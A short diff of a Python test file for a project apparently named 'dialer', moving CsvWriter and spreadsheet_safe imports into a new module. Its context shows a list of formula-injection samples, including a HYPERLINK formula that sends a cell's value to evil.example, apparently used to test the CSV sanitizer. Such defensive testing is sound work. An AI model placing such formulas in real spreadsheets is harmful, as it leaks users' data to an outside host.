@@ -11,7 +11,8 @@ from pathlib import Path
 import pytest
 from click.testing import Result
 
-from dialer.cli.output import CsvWriter, output_file, spreadsheet_safe
+from dialer.cli.output import output_file
+from dialer.csvfiles import CsvWriter, spreadsheet_safe
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
